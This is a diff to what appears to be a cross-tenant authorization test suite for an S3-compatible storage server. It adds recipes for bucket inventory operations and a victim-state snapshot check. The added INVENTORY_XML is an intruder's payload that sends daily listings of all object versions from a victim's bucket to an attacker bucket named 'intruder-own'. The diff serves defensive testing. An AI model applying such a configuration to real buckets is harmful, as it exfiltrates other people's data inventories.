@@ -35,6 +35,14 @@ OWNERSHIP_XML = (
     b"</OwnershipControls>"
 )
 PAB_XML = b"<PublicAccessBlockConfiguration/>"
+# An S3 Inventory configuration an intruder would add to the victim's bucket (decision 0154).
+INVENTORY_XML = (
+    b'<InventoryConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/">'
+    b"<Id>stolen</Id><IsEnabled>true</IsEnabled><Destination><S3BucketDestination>"
+    b"<Bucket>arn:aws:s3:::intruder-own</Bucket><Format>CSV</Format></S3BucketDestination>"
+    b"</Destination><IncludedObjectVersions>All</IncludedObjectVersions>"
+    b"<Schedule><Frequency>Daily</Frequency></Schedule></InventoryConfiguration>"
+)
 TAGS_XML = b"<Tagging><TagSet><Tag><Key>owner</Key><Value>intruder</Value></Tag></TagSet></Tagging>"
 SSE_XML = (
     b"<ServerSideEncryptionConfiguration><Rule><ApplyServerSideEncryptionByDefault>"
@@ -196,6 +204,10 @@ RECIPES: dict[O, Recipe] = {
     O.GetObjectAttributes: Recipe(
         "GET", f"{K}?attributes", headers=(("x-amz-object-attributes", "ETag,ObjectSize"),)
     ),
+    O.PutBucketInventoryConfiguration: Recipe("PUT", f"{B}?inventory&id=stolen", INVENTORY_XML),
+    O.GetBucketInventoryConfiguration: Recipe("GET", f"{B}?inventory&id=stolen"),
+    O.DeleteBucketInventoryConfiguration: Recipe("DELETE", f"{B}?inventory&id=stolen"),
+    O.ListBucketInventoryConfigurations: Recipe("GET", f"{B}?inventory"),
 }
 # Not bucket-addressed: covered by their own tests below.
 SERVICE_LEVEL = {O.ListBuckets, O.CreateBucket}
@@ -244,6 +256,7 @@ async def snapshot(victim: Client, upload_id: str) -> list[tuple[int, bytes]]:
         ("GET", f"{B}?website"),
         ("GET", f"{B}?lifecycle"),
         ("GET", f"{B}?replication"),
+        ("GET", f"{B}?inventory"),
         ("GET", f"{B}?uploads"),
         ("GET", f"{K}?uploadId={upload_id}"),
     ]
